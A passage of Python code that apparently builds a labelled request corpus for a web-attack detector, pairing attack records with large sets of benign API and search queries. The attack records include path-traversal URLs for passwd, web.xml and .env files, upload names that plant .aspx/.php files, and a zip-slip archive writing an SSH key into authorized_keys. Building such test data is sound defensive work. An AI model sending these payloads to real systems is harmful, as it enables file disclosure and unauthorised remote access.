        ("java", "/static/..;/WEB-INF/web.xml", "jee", "Tomcat ..;/ path parameter"),
        ("java", "/app/..;/manager/html", "jee", "..;/ to the manager app"),
        ("java", "/api/..;/actuator/heapdump", "spring", "..;/ to actuator"),
        ("java", "/..%252F..%252F..%252F..%252F..%252Fetc%252Fpasswd/foo/default", "spring", "Spring Cloud Config (CVE-2020-5410)"),
        ("java", "/resources/%5c..%5c..%5cWEB-INF%5cweb.xml", "spring", "encoded backslashes in a resource path"),
        ("node", "/public/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "express", "%2e%2e segments"),
        ("node", "/assets/..%2f..%2f..%2f..%2fapp%2f.env", "express", "%2f in one segment"),
        ("python", "/static/../../../../etc/passwd", "flask", "aiohttp follow_symlinks (CVE-2024-23334)"),
        ("python", "/files/..%2f..%2f..%2f..%2fetc%2fpasswd", "flask", "Jupyter files handler"),
        ("windows", "/scripts/..%c1%9c..%c1%9c..%c1%9cwindows/win.ini", "aspnet", "overlong backslash"),
        ("windows", "/images/..%5c..%5c..%5cweb.config", "aspnet", "%5c in the path"),
    ]
    for dialect, path, stack, tech in paths:
        em.rec("lfi", dialect, "GET", path, headers_for(stack, em.k), desc="%s: %s" % (dialect, tech))
    # Traversal in an upload's file name, and a ZIP whose member escapes the extraction folder.
    for i, (fname, stack, path) in enumerate([("../../../../app/templates/base.html", "flask", "/api/attachments"),
                                             ("..\\..\\..\\inetpub\\wwwroot\\shell.aspx", "aspnet", "/Upload/Files.aspx"),
                                             ("../../../../../var/www/html/s.php", "php", "/upload.php")]):
        b = BOUNDARIES[i]
        em.rec("lfi", ["python", "windows", "linux"][i], "POST", path, headers_for(stack, em.k, ctype="multipart/form-data; boundary=" + b),
               multipart([("file", "<%@ Page Language=\"C#\" %><% Response.Write(\"x\"); %>" if i == 1 else "{% extends 'x' %}" if i == 0 else "<?php echo 1; ?>", fname, "application/octet-stream")], b),
               desc="upload file name traversal")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        zi = zipfile.ZipInfo("../../../../home/app/.ssh/authorized_keys", date_time=(2024, 6, 3, 9, 41, 12))
        z.writestr(zi, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH0yOq6H7tL3n3yXbC1lZDI1NTE5AAAAI eve@kali\n")
        z.writestr(zipfile.ZipInfo("readme.txt", date_time=(2024, 6, 3, 9, 41, 12)), "theme assets\n")
    b = BOUNDARIES[3]
    em.raw("lfi", "python", raw_request("POST", "/api/themes/import", headers_for("django", em.k, ctype="multipart/form-data; boundary=" + b),
           multipart_bytes([("archive", buf.getvalue(), "theme.zip", "application/zip")], b)), desc="zip slip: member name climbing out of the extraction folder")


def attacks():
    em = Emitter("detect")
    gen_sql(em)
    gen_ssti(em)
    gen_el(em)
    gen_deser(em)
    gen_shell(em)
    gen_nosql(em)
    gen_ldap_xpath(em)
    gen_xml(em)
    gen_traversal(em)
    return em.out


# ============================================================================ benign traffic
# The same stacks' ordinary requests.  B.get/B.post/B.json write one record each.

class Benign:
    def __init__(self):
        self.em = Emitter("pass")

    def _cat(self, dev):
        return "dev-content" if dev else "benign"

    def get(self, area, stack, path, pairs=(), dev=False, desc=None, **kw):
        uri = path + ("?" + qs(list(pairs), self.em.k) if pairs else "")
        self.em.rec(self._cat(dev), area, "GET", uri, headers_for(stack, self.em.k, **kw), desc=desc)

    def raw_get(self, area, stack, uri, dev=False, desc=None, **kw):
        self.em.rec(self._cat(dev), area, "GET", uri, headers_for(stack, self.em.k, **kw), desc=desc)

    def post(self, area, stack, path, pairs, dev=False, desc=None, method="POST", **kw):
        self.em.rec(self._cat(dev), area, method, path,
                    headers_for(stack, self.em.k, ctype="application/x-www-form-urlencoded", **kw), form(list(pairs)), desc=desc)

    def json(self, area, stack, path, obj, dev=False, desc=None, method="POST", ctype="application/json", **kw):
        body = obj if isinstance(obj, str) else jdump(obj, self.em.k)
        self.em.rec(self._cat(dev), area, method, path, headers_for(stack, self.em.k, ctype=ctype, **kw), body, desc=desc)

    def body(self, area, stack, path, text, ctype, dev=False, desc=None, method="POST", **kw):
        self.em.rec(self._cat(dev), area, method, path, headers_for(stack, self.em.k, ctype=ctype, **kw), text, desc=desc)

    def upload(self, area, stack, path, parts, dev=False, desc=None, **kw):
        b = BOUNDARIES[self.em.k % len(BOUNDARIES)]
        self.em.rec(self._cat(dev), area, "POST", path, headers_for(stack, self.em.k, ctype="multipart/form-data; boundary=" + b, **kw),
                    multipart(parts, b), desc=desc)

    def upload_bytes(self, area, stack, path, parts, dev=False, desc=None, **kw):
        b = BOUNDARIES[self.em.k % len(BOUNDARIES)]
        self.em.k += 1
        self.em.raw(self._cat(dev), area, raw_request("POST", path, headers_for(stack, self.em.k, ctype="multipart/form-data; boundary=" + b, **kw),
                    multipart_bytes(parts, b)), desc=desc)


SEARCH_TERMS = [
    "O'Brien", "D'Angelo pizza", "L'Oréal shampoo", "union square hotels", "select comfort mattress", "drop earrings gold",
    "sleep number bed", "benchmark results 2024", "how to delete account", "cast iron skillet 12 inch", "executive chair mesh",
    "version control for beginners", "user agreement template", "waitfor delay meaning", "1=1 meaning in maths",
    "or 2 bedroom apartment", "table and chairs set", "insert molding", "update drivers windows 11", "where to buy",
    "Müller Joghurt", "café crème", "東京 ホテル 予約", "Ñandú", "São Paulo voos", "Zürich Hauptbahnhof", "naïve bayes",
    "rock 'n' roll vinyl", "children's books 5-7", "\"exact phrase\" search", "50% off", "C# tutorial", "node.js vs deno",
    "SELECT bag by Samsonite", "Sleep & Relax tea", "char broil grill", "concat in excel", "null pointer exception",
    "script writing course", "alert 1 day before", "from scratch bread", "path of exile", "shell eco bag", "ping pong table",
    "cat food grain free", "sh*t happens t-shirt", "x-men comics", "exec summary template", "import duty UK", "echo dot 5th gen",
]


def benign_search(B):
    sites = [("django", "/search/", "q"), ("wp", "/", "s"), ("laravel", "/products", "search"), ("rails", "/search", "q"),
             ("aspnet", "/Search.aspx", "term"), ("express", "/api/search", "query"), ("spring", "/catalog/search", "keyword")]
    for i, t in enumerate(SEARCH_TERMS):
        stack, path, p = sites[i % len(sites)]
        if i % 4 == 3:
            B.json("search", stack, path if path.startswith("/api") else "/api/search", {"query": t, "page": 1, "filters": {"in_stock": True}})
        else:
            B.get("search", stack, path, [(p, t)] + ([("page", str(i % 5 + 1))] if i % 3 == 0 else []))
    # Name fields with apostrophes and hyphens in ordinary forms.
    for i, (first, last) in enumerate([("Siobhán", "O'Sullivan"), ("Jean-Luc", "D'Arcy"), ("Mary", "McDonald-O'Neil"),
                                       ("Ngozi", "Okonjo-Iweala"), ("Zoë", "L'Estrange"), ("Tom", "Select")]):
        B.post("forms", ["django", "rails", "laravel", "aspnet", "spring", "php"][i], "/account/register",
               [("first_name", first), ("last_name", last), ("email", "%s.%s@example.com" % (first.lower()[:3], "user")),
                ("company", ["Union Pacific", "Drop Forge Ltd", "Select Harvests", "Shell Energy", "Exec Suites & Co.", "Benchmark Electronics"][i])])


def benign_dashboards(B):
    # OData ($filter with doubled quotes, lambda operators, $apply).
    odata = [
        [("$filter", "Status eq 'Open' and CreatedOn ge 2024-01-01T00:00:00Z"), ("$orderby", "CreatedOn desc"), ("$top", "50")],
        [("$filter", "startswith(CompanyName,'Alfr') or contains(City,'Berlin')"), ("$select", "CustomerID,CompanyName,City")],
        [("$filter", "contains(LastName,'O''Neil')"), ("$count", "true")],
        [("$expand", "Orders($filter=Total gt 100;$orderby=OrderDate desc)"), ("$top", "20"), ("$skip", "40")],
        [("$apply", "groupby((Region),aggregate(Amount with sum as Total))")],
        [("$filter", "Tags/any(t: t eq 'urgent') and Priority le 2")],
        [("$filter", "year(OrderDate) eq 2024 and month(OrderDate) in (1,2,3)"), ("$select", "OrderID,Freight")],
    ]
    for i, pairs in enumerate(odata):
        B.get("odata", ["aspnet", "api"][i % 2], ["/odata/Orders", "/odata/Customers", "/api/data/v9.2/accounts", "/_api/web/lists/getbytitle('Tasks')/items"][i % 4], pairs)
    # ArcGIS REST query where clauses.
    for i, w in enumerate(["1=1", "ZONING='R-1' AND ACRES>0.5", "UPPER(OWNER_NAME) LIKE '%SMITH%'", "STATUS IN ('Active','Pending') AND YEAR_BUILT>=1990",
                           "PARCEL_ID='12-34-567-001'"]):
        B.get("arcgis", "api", "/arcgis/rest/services/Parcels/MapServer/%d/query" % (i % 3), [("where", w), ("outFields", "*"), ("returnGeometry", "false"), ("f", "json")])
    # JQL, GitHub search, PromQL, LogQL, Datadog, Sentry, KQL, RSQL/FIQL, Lucene.
    B.get("jql", "spring", "/rest/api/2/search", [("jql", 'project = WEB AND status in ("In Progress", Review) AND assignee = currentUser() ORDER BY priority DESC'), ("maxResults", "50")])
    B.get("jql", "spring", "/rest/api/3/search", [("jql", 'labels = "tech-debt" AND created >= -30d AND text ~ "drop table"'), ("fields", "summary,status")])
    B.get("jql", "spring", "/issues/", [("jql", "reporter was not in (membersOf(\"qa\")) AND resolution is EMPTY")])
    B.get("github", "api", "/search/issues", [("q", 'repo:acme/api is:pr is:open label:"needs review" created:2024-05-01..2024-05-31')])
    B.get("github", "api", "/search/code", [("q", "\"pg_sleep\" language:SQL path:migrations/")])
    for i, qv in enumerate(['sum by (job) (rate(http_requests_total{code=~"5.."}[5m]))',
                            'histogram_quantile(0.99, sum(rate(http_request_duration_seconds_bucket{service="checkout"}[5m])) by (le))',
                            'up{job="node"} == 0 or absent(up{job="node"})',
                            'topk(5, sum by (pod) (container_memory_working_set_bytes{namespace!="kube-system"}))']):
        B.get("promql", "go", "/api/v1/query_range" if i % 2 else "/api/v1/query", [("query", qv), ("start", "1717400000"), ("end", "1717403600"), ("step", "30")])
    for qv in ['{app="checkout"} |= "timeout" | json | duration > 2s', 'sum by (level) (count_over_time({namespace="prod"} |~ "(?i)error|exception" [1h]))',
               '{job="nginx"} | pattern `<ip> - - [<_>] "<method> <uri> <_>" <status> <_>` | status >= 500']:
        B.get("logql", "go", "/loki/api/v1/query_range", [("query", qv), ("limit", "100"), ("direction", "backward")])
    B.get("datadog", "api", "/api/v1/query", [("query", "avg:system.cpu.user{env:prod,service:api} by {host}"), ("from", "1717400000"), ("to", "1717403600")])
    B.get("sentry", "api", "/api/0/organizations/acme/issues/", [("query", "is:unresolved level:error release:backend@2.4.1 !message:\"ConnectionReset\""), ("statsPeriod", "14d")])
    B.json("kql", "express", "/internal/search/es", {"params": {"index": "logs-*", "body": {"query": {"bool": {"filter": [
        {"range": {"@timestamp": {"gte": "now-15m"}}}]}}}, "kql": "response.status >= 500 and not url.path : \"/healthz\""}}, extra=[("kbn-version", "8.13.4")])
    for i, f in enumerate(["status==active;createdAt=ge=2024-01-01", "amount=gt=1000,region==EMEA", "name==\"O'Hara*\";deleted==false",
                           "tags=in=(urgent,billing);assignee=out=(bot,system)"]):
        B.get("rsql", ["spring", "api"][i % 2], "/api/v1/tickets", [("filter", f), ("sort", "createdAt,desc")])
    for qv in ["name:\"O'Brien\" AND city:Dublin", "title:(rust OR go) AND published:[2023-01-01 TO *]", "price:[10 TO 100] -brand:generic", "text:select~2"]:
        B.get("lucene", "spring", "/solr/products/select", [("q", qv), ("rows", "20"), ("wt", "json"), ("fl", "id,name,price")])
    # PostgREST / Supabase: Postgres spelled in the URL.
    for pairs in [[("select", "id,name,orders(total,created_at)"), ("status", "eq.active"), ("created_at", "gte.2024-01-01"), ("order", "created_at.desc")],
                  [("or", "(age.lt.18,age.gt.65)"), ("select", "*")], [("name", "ilike.*o'neil*"), ("limit", "10")],
                  [("tags", "cs.{urgent,billing}"), ("select", "id,title"), ("offset", "20")]]:
        B.get("postgrest", "api", "/rest/v1/customers", pairs, extra=[("apikey", "sb_publishable_" + rtok(24, ALNUM))])
    # Superset / Hasura / Directus style filters with SQL fragments.
    B.json("superset", "data", "/api/v1/chart/data", {"datasource": {"id": 12, "type": "table"}, "queries": [{"columns": ["country"], "metrics": ["count"],
           "filters": [{"col": "country", "op": "IN", "val": ["US", "CA", "MX"]}], "extras": {"where": "(order_status = 'shipped')", "having": "COUNT(*) > 10"},
           "orderby": [["count", False]], "row_limit": 1000}], "result_format": "json", "result_type": "full"})
    B.json("superset", "data", "/api/v1/chart/data", {"datasource": {"id": 7, "type": "table"}, "queries": [{"columns": [{"label": "month", "sqlExpression": "DATE_TRUNC('month', created_at)", "expressionType": "SQL"}],
           "metrics": [{"label": "revenue", "expressionType": "SQL", "sqlExpression": "SUM(amount) - SUM(refunds)"}], "filters": [], "time_range": "Last quarter"}]})
    B.json("hasura", "api", "/v1/graphql", {"query": "query Orders($w: orders_bool_exp!) { orders(where: $w, order_by: {created_at: desc}, limit: 20) { id total status } }",
           "variables": {"w": {"_and": [{"status": {"_eq": "paid"}}, {"total": {"_gte": 100}}, {"customer": {"name": {"_ilike": "%o'neil%"}}}]}}})


def benign_bi(B):
    B.json("metabase", "data", "/api/dataset", {"database": 1, "type": "query", "query": {"source-table": 2, "filter": ["and", ["=", ["field", 14, None], "Widget"], [">", ["field", 9, None], 30]],
           "aggregation": [["count"], ["sum", ["field", 6, None]]], "breakout": [["field", 12, {"temporal-unit": "month"}]]}, "parameters": []})
    B.json("metabase", "data", "/api/card/42/query", {"parameters": [{"type": "category", "target": ["variable", ["template-tag", "region"]], "value": "EMEA"}], "ignore_cache": False})
    B.json("cube", "api", "/cubejs-api/v1/load", {"query": {"measures": ["Orders.count", "Orders.totalAmount"], "dimensions": ["Orders.status"],
           "timeDimensions": [{"dimension": "Orders.createdAt", "granularity": "week", "dateRange": "last 90 days"}],
           "filters": [{"member": "Orders.status", "operator": "notEquals", "values": ["cancelled"]}], "order": {"Orders.count": "desc"}, "limit": 100}})
    B.get("cube", "api", "/cubejs-api/v1/load", [("query", json.dumps({"measures": ["Users.count"], "dimensions": ["Users.city"], "filters": [{"member": "Users.city", "operator": "contains", "values": ["San"]}]}))])
    B.json("looker", "data", "/api/4.0/queries/run/json", {"model": "ecommerce", "view": "order_items", "fields": ["orders.created_date", "order_items.total_sale_price"],
           "filters": {"orders.created_date": "last 30 days", "users.state": "-NULL", "products.brand": "Levi's,Calvin Klein"}, "sorts": ["orders.created_date desc"], "limit": "500"})
    B.json("looker", "data", "/api/4.0/queries", {"model": "thelook", "view": "events", "fields": ["events.event_type", "events.count"],
           "filter_expression": "${events.created_date} > add_days(-7, now()) AND ${events.event_type} != \"Cancel\"", "limit": "50"})
    B.json("dbt", "api", "/api/graphql", {"query": "query($metrics: [MetricInput!]!, $groupBy: [GroupByInput!], $where: [WhereInput!]) { createQuery(environmentId: 1, metrics: $metrics, groupBy: $groupBy, where: $where) { queryId } }",
           "variables": {"metrics": [{"name": "revenue"}], "groupBy": [{"name": "metric_time", "grain": "MONTH"}], "where": [{"sql": "{{ Dimension('customer__region') }} = 'EMEA'"}]}})
    B.json("redash", "data", "/api/queries/118/results", {"parameters": {"region": "EMEA", "date_range": {"start": "2024-04-01", "end": "2024-06-30"}}, "max_age": 0})
    B.get("tableau", "api", "/api/3.22/sites/9a8b/workbooks", [("filter", "name:eq:Sales Overview,updatedAt:gte:2024-01-01T00:00:00Z"), ("sort", "name:asc"), ("pageSize", "100")])
    B.json("powerbi", "api", "/v1.0/myorg/datasets/cfafbeb1/executeQueries", {"queries": [{"query": "EVALUATE TOPN(10, SUMMARIZECOLUMNS('Product'[Category], \"Sales\", SUM('Sales'[Amount])), [Sales], DESC)"}],
           "serializerSettings": {"includeNulls": True}}, dev=True, desc="DAX statement to Power BI executeQueries")
    B.json("lightdash", "data", "/api/v1/projects/3c1f/explores/orders/runQuery", {"dimensions": ["orders_status"], "metrics": ["orders_total_revenue"],
           "filters": {"dimensions": {"id": "f1", "and": [{"id": "f2", "target": {"fieldId": "orders_order_date"}, "operator": "inThePast", "values": [3], "settings": {"unitOfTime": "months"}}]}},
           "sorts": [{"fieldId": "orders_total_revenue", "descending": True}], "limit": 500, "tableCalculations": [{"name": "share", "displayName": "Share", "sql": "${orders.total_revenue} / SUM(${orders.total_revenue}) OVER ()"}]})
    B.json("grafana", "go", "/api/ds/query", {"queries": [{"refId": "A", "datasource": {"uid": "prom1", "type": "prometheus"}, "expr": "rate(nginx_http_requests_total{status=~\"5..\"}[$__rate_interval])", "intervalMs": 15000}],
           "from": "now-6h", "to": "now"})
    B.json("evidence", "api", "/api/segments/preview", {"name": "lapsed buyers", "conditions": {"all": [{"field": "last_order_at", "op": "before", "value": "90 days ago"},
           {"field": "country", "op": "in", "value": ["DE", "AT", "CH"]}, {"field": "email", "op": "not_contains", "value": "@example.org"}]}})


def benign_es(B):
    bodies = [
        {"query": {"bool": {"must": [{"multi_match": {"query": "wireless headphones", "fields": ["title^3", "description"], "fuzziness": "AUTO"}}],
                            "filter": [{"term": {"in_stock": True}}, {"range": {"price": {"gte": 20, "lte": 200}}}]}}, "size": 24, "from": 0,
         "sort": [{"_score": "desc"}, {"popularity": "desc"}], "aggs": {"brands": {"terms": {"field": "brand.keyword", "size": 20}}}},
        {"query": {"query_string": {"query": "title:(quick OR brown) AND status:published AND NOT author:\"O'Reilly\"", "default_field": "body"}}, "highlight": {"fields": {"body": {}}}},
        {"query": {"function_score": {"query": {"match": {"body": "kubernetes"}}, "script_score": {"script": {"source": "Math.log(2 + doc['likes'].value)"}}}}},
        {"runtime_mappings": {"price_eur": {"type": "double", "script": {"source": "emit(doc['price_usd'].value * params.rate)", "params": {"rate": 0.92}}}},
         "query": {"range": {"price_eur": {"lt": 50}}}, "fields": ["price_eur"]},
        {"size": 0, "aggs": {"per_day": {"date_histogram": {"field": "@timestamp", "calendar_interval": "1d"}, "aggs": {"p95": {"percentiles": {"field": "duration_ms", "percents": [95]}}}}},
         "query": {"bool": {"filter": [{"range": {"@timestamp": {"gte": "now-7d/d"}}}, {"terms": {"http.response.status_code": [500, 502, 503]}}]}}},
        {"query": {"nested": {"path": "comments", "query": {"match": {"comments.text": "drop shipping union rates"}}}}, "_source": ["title", "comments.author"]},
        {"query": {"script": {"script": {"source": "doc['end'].value.toInstant().toEpochMilli() - doc['start'].value.toInstant().toEpochMilli() > params.ms", "params": {"ms": 3600000}}}}},
        {"suggest": {"s": {"prefix": "sele", "completion": {"field": "suggest", "size": 5}}}},
        {"query": {"geo_distance": {"distance": "5km", "location": {"lat": 52.37, "lon": 4.89}}}, "sort": [{"_geo_distance": {"location": [4.89, 52.37], "order": "asc", "unit": "km"}}]},
        {"knn": {"field": "embedding", "query_vector": [0.12, -0.03, 0.44, 0.08], "k": 10, "num_candidates": 100}, "_source": ["title"]},
    ]
    idx = ["products", "articles", "posts", "catalog", "logs-web-*", "blog", "sessions", "products", "stores", "docs"]
    for i, b in enumerate(bodies):
        B.json("elasticsearch", ["api", "go", "express"][i % 3], "/%s/_search" % idx[i], b)
    B.json("elasticsearch", "api", "/products/_update/8841", {"script": {"source": "ctx._source.tags.add(params.tag); ctx._source.views += 1", "lang": "painless", "params": {"tag": "sale"}}})
    B.json("elasticsearch", "api", "/orders/_update_by_query?conflicts=proceed", {"script": {"source": "if (ctx._source.status == 'pending') { ctx._source.status = 'expired' } else { ctx.op = 'noop' }"},
           "query": {"range": {"created_at": {"lt": "now-30d"}}}})
    B.json("elasticsearch", "api", "/_ingest/pipeline/web-logs", {"description": "parse nginx", "processors": [
        {"grok": {"field": "message", "patterns": ["%{IPORHOST:client.ip} - %{DATA:user.name} \\[%{HTTPDATE:ts}\\] \"%{WORD:http.method} %{DATA:url.original} HTTP/%{NUMBER:http.version}\" %{NUMBER:status:int}"]}},
        {"script": {"source": "ctx.slow = ctx.duration_ms != null && ctx.duration_ms > 1000"}}, {"remove": {"field": "message"}}]}, method="PUT")
    B.json("elasticsearch", "api", "/_render/template", {"source": "{\"query\": {\"match\": {\"{{field}}\": \"{{query}}\"}}, \"size\": {{size}}{{#sort}}, \"sort\": [{{#toJson}}sort{{/toJson}}]{{/sort}}}",
           "params": {"field": "title", "query": "select committee report", "size": 10}})
    B.json("elasticsearch", "api", "/products/_search/template", {"id": "product-search", "params": {"q": "drop leaf table", "from": 0, "size": 24}})
    ndjson = "".join(json.dumps(x) + "\n" for x in [{"index": "products"}, {"query": {"match": {"title": "union jack mug"}}, "size": 5},
                                                   {"index": "stores"}, {"query": {"term": {"city.keyword": "Manchester"}}}])
    B.body("elasticsearch", "api", "/_msearch", ndjson, "application/x-ndjson")
    bulk = "".join(json.dumps(x) + "\n" for x in [{"index": {"_index": "audit", "_id": "a1"}}, {"user": "jdoe", "action": "DELETE", "object": "report/7", "ts": "2024-06-03T10:11:00Z"},
                                                  {"update": {"_index": "products", "_id": "8841"}}, {"doc": {"price": 19.99}},
                                                  {"delete": {"_index": "sessions", "_id": "s-99"}}])
    B.body("elasticsearch", "api", "/_bulk", bulk, "application/x-ndjson")
    B.get("kibana", "express", "/api/saved_objects/_find", [("type", "dashboard"), ("search_fields", "title"), ("search", "sales*"), ("per_page", "20")], extra=[("kbn-xsrf", "true")])
    B.json("opensearch", "api", "/_plugins/_alerting/monitors/_search", {"query": {"match_phrase": {"monitor.name": "5xx spike"}}})
    B.json("opensearch", "api", "/_plugins/_ppl", {"query": "source=logs-web | where status >= 500 | stats count() by host | sort - `count()` | head 10"}, dev=True, desc="PPL statement")
    B.json("elasticsearch", "api", "/_sql?format=txt", {"query": "SELECT host, COUNT(*) AS errors FROM \"logs-web-*\" WHERE status >= 500 GROUP BY host ORDER BY errors DESC LIMIT 10"}, dev=True,
           desc="Elasticsearch SQL statement")


def benign_mongo_couch_redis(B):
    parse = [
        {"score": {"$gte": 1000}, "playerName": {"$in": ["Jonathan Walsh", "Dario Wunsch", "Shawn Simon"]}},
        {"name": {"$regex": "^acme", "$options": "i"}, "deletedAt": {"$exists": False}},
        {"post": {"__type": "Pointer", "className": "Post", "objectId": "8TOXdXf3tz"}, "createdAt": {"$gt": {"__type": "Date", "iso": "2024-05-01T00:00:00.000Z"}}},
        {"location": {"$nearSphere": {"__type": "GeoPoint", "latitude": 30.0, "longitude": -20.0}, "$maxDistanceInKilometers": 10}},
        {"$or": [{"wins": {"$gt": 150}}, {"wins": {"$lt": 5}}]},
    ]
    for i, w in enumerate(parse):
        B.get("parse", "api", "/parse/classes/%s" % ["GameScore", "Company", "Comment", "Place", "Player"][i], [("where", json.dumps(w)), ("limit", "25"), ("order", "-createdAt")],
              extra=[("X-Parse-Application-Id", "myAppId")])
    strapi = [[("filters[title][$containsi]", "rust"), ("sort", "publishedAt:desc"), ("pagination[page]", "1"), ("pagination[pageSize]", "25")],
              [("filters[$or][0][date][$eq]", "2024-06-01"), ("filters[$or][1][date][$eq]", "2024-06-02"), ("filters[author][name][$eq]", "Kai Doe")],
              [("filters[price][$between][0]", "10"), ("filters[price][$between][1]", "50"), ("populate", "*")],
              [("filters[slug][$in][0]", "summer-sale"), ("filters[slug][$in][1]", "drop-day"), ("fields[0]", "title")]]
    for pairs in strapi:
        B.get("strapi", "express", "/api/articles", pairs)
    for pairs in [[("price[$lt]", "50"), ("$sort[createdAt]", "-1"), ("$limit", "25")], [("$or[0][status]", "open"), ("$or[1][assignee]", "me"), ("$select[]", "title")],
                  [("tags[$in][]", "urgent"), ("tags[$in][]", "billing"), ("$skip", "50")]]:
        B.get("feathers", "express", "/messages", pairs)
    B.json("atlas", "api", "/app/data-abcde/endpoint/data/v1/action/find", {"dataSource": "Cluster0", "database": "shop", "collection": "orders",
           "filter": {"status": "shipped", "total": {"$gt": 50}, "items.sku": {"$in": ["A-1", "B-7"]}}, "sort": {"createdAt": -1}, "limit": 20})
    B.json("atlas", "api", "/app/data-abcde/endpoint/data/v1/action/aggregate", {"dataSource": "Cluster0", "database": "shop", "collection": "orders", "pipeline": [
        {"$match": {"createdAt": {"$gte": {"$date": "2024-01-01T00:00:00Z"}}}}, {"$unwind": "$items"},
        {"$group": {"_id": "$items.category", "revenue": {"$sum": {"$multiply": ["$items.price", "$items.qty"]}}, "orders": {"$addToSet": "$_id"}}},
        {"$project": {"revenue": 1, "orderCount": {"$size": "$orders"}}}, {"$sort": {"revenue": -1}}, {"$limit": 10}]})
    B.json("atlas", "api", "/app/data-abcde/endpoint/data/v1/action/aggregate", {"dataSource": "Cluster0", "database": "inventory", "collection": "stock", "pipeline": [
        {"$lookup": {"from": "warehouses", "localField": "warehouseId", "foreignField": "_id", "as": "warehouse"}}, {"$match": {"qty": {"$lt": 10}}}]})
    B.json("atlas", "api", "/app/data-abcde/endpoint/data/v1/action/updateOne", {"dataSource": "Cluster0", "database": "crm", "collection": "contacts",
           "filter": {"_id": {"$oid": "6650f1c2a4b3e2d1c0b9a877"}}, "update": {"$set": {"phone": "+44 20 7946 0958"}, "$push": {"notes": "called re: renewal"}}})
    B.get("directus", "api", "/items/articles", [("filter", json.dumps({"_and": [{"status": {"_eq": "published"}}, {"date_published": {"_lte": "$NOW"}}]})), ("sort", "-date_published"), ("fields", "*,author.name")])
    B.get("loopback", "express", "/api/products", [("filter", json.dumps({"where": {"and": [{"price": {"gt": 10}}, {"name": {"like": "%mug%"}}]}, "limit": 5, "order": "price DESC", "include": "reviews"}))])
    B.get("payload", "express", "/api/posts", [("where[or][0][title][like]", "rust"), ("where[or][1][tags][in]", "systems,unsafe"), ("depth", "1")])
    B.get("mongo-express", "express", "/db/shop/orders", [("key", "status"), ("value", "shipped"), ("type", "S"), ("query", ""), ("projection", "")])
    B.json("mongo-api", "express", "/api/customers/search", {"filter": {"$text": {"$search": "coffee \"cold brew\""}, "loyalty.tier": {"$in": ["gold", "platinum"]},
           "addresses": {"$elemMatch": {"country": "NZ", "primary": True}}}, "projection": {"name": 1, "email": 1}, "limit": 50})
    # CouchDB / PouchDB.
    B.json("couchdb", "api", "/orders/_find", {"selector": {"status": "open", "total": {"$gt": 100}, "customer.country": {"$in": ["DE", "FR"]}},
           "fields": ["_id", "total", "status"], "sort": [{"total": "desc"}], "limit": 25, "use_index": "idx-status-total"})
    B.json("couchdb", "api", "/orders/_index", {"index": {"fields": ["status", "total"]}, "name": "idx-status-total", "type": "json"})
    B.raw_get("couchdb", "api", "/orders/_all_docs?include_docs=true&startkey=%22order%3A2024-06%22&endkey=%22order%3A2024-06%EF%BF%B0%22&limit=50")
    B.raw_get("couchdb", "api", "/orders/_design/reports/_view/by_month?group_level=2&startkey=%5B2024%2C1%5D&endkey=%5B2024%2C12%2C%7B%7D%5D")
    B.get("couchdb", "api", "/notes/_changes", [("feed", "longpoll"), ("since", "now"), ("include_docs", "true"), ("timeout", "60000")])
    B.json("couchdb", "api", "/notes/_bulk_docs", {"docs": [{"_id": "note:2024-06-03:1", "_rev": "3-917fa2381192822767f010b95b45325b", "title": "Standup", "body": "select * from blockers; (joke)"},
                                                            {"_id": "note:2024-06-03:2", "title": "Groceries", "body": "milk, eggs, union of two lists in python?"}], "new_edits": True})
    B.json("couchdb", "api", "/_users/org.couchdb.user:jan", {"name": "jan", "password": "correct horse battery staple", "roles": [], "type": "user"}, method="PUT")
    B.post("couchdb", "api", "/_session", [("name", "jan"), ("password", "correct horse battery staple")])
    # Redis through its REST front ends and admin UIs.
    B.json("upstash", "api", "/pipeline", [["SET", "cart:1921", "{\"items\":3}"], ["EXPIRE", "cart:1921", "3600"], ["INCR", "stats:carts"]])
    B.raw_get("upstash", "api", "/get/session:7f3a2c")
    B.json("redisinsight", "express", "/api/databases/3f1a/cli/9c2e/send-command", {"command": "HGETALL session:7f3a2c", "outputFormat": "RAW"})
    B.json("redisinsight", "express", "/api/databases/3f1a/cli/9c2e/send-command", {"command": "SCAN 0 MATCH user:* COUNT 100", "outputFormat": "TEXT"})
    B.json("redisinsight", "express", "/api/databases/3f1a/cli/9c2e/send-command", {"command": "INFO memory", "outputFormat": "TEXT"})
    B.json("webhooks", "api", "/api/webhooks", {"event": "order.paid", "callback_url": "https://hooks.example.com/services/T000/B000/XXXX", "secret": rtok(24, ALNUM)})
    B.post("remote-import", "django", "/import/remote/", [("source_url", "https://data.example.org/exports/stores.csv"), ("format", "csv")])
    B.get("fetch", "php", "/api/fetch", [("url", "https://cdn.example.com/feeds/products.xml")])


def benign_graph(B):
    gq = [
        {"operationName": "Product", "query": "query Product($slug: String!) { product(slug: $slug) { id name price { amount currency } images(first: 4) { url alt } } }", "variables": {"slug": "o-neill-hoodie"}},
        {"query": "mutation AddToCart($id: ID!, $qty: Int!) { cartLinesAdd(lines: [{merchandiseId: $id, quantity: $qty}]) { cart { id totalQuantity } userErrors { message } } }",
         "variables": {"id": "gid://shop/ProductVariant/40321", "qty": 2}},
        {"query": "query Search($q: String!) { products(first: 20, query: $q) { edges { node { id title } } } }", "variables": {"q": "title:shirt AND product_type:Apparel AND -tag:archived"}},
        {"query": "query { repository(owner: \"acme\", name: \"api\") { issues(first: 10, states: OPEN, labels: [\"bug\"]) { nodes { number title } } } }"},
        {"query": "fragment U on User { id name avatarUrl } query Team($id: ID!) { team(id: $id) { owner { ...U } members(first: 50) { ...U } } }", "variables": {"id": "T-42"}},
        {"query": "query($filter: TicketFilter) { tickets(filter: $filter, orderBy: {field: CREATED_AT, direction: DESC}) { totalCount nodes { id subject } } }",
         "variables": {"filter": {"status": ["OPEN", "PENDING"], "subjectContains": "drop table reservation"}}},
        {"query": "subscription OnMessage($room: ID!) { messageAdded(roomId: $room) { id text author { name } } }", "variables": {"room": "general"}},
        {"query": "mutation UpdateProfile($input: ProfileInput!) { updateProfile(input: $input) { id bio } }", "variables": {"input": {"bio": "DBA. Fan of EXPLAIN ANALYZE and long walks; select * from hobbies;"}}},
    ]
    for i, body in enumerate(gq):
        B.json("graphql", ["api", "express", "api", "api", "express", "api", "express", "api"][i], "/graphql", body)
    B.json("graphql", "api", "/graphql", [{"query": "query { viewer { id name } }"}, {"query": "query { notifications(first: 5) { nodes { id read } } }"},
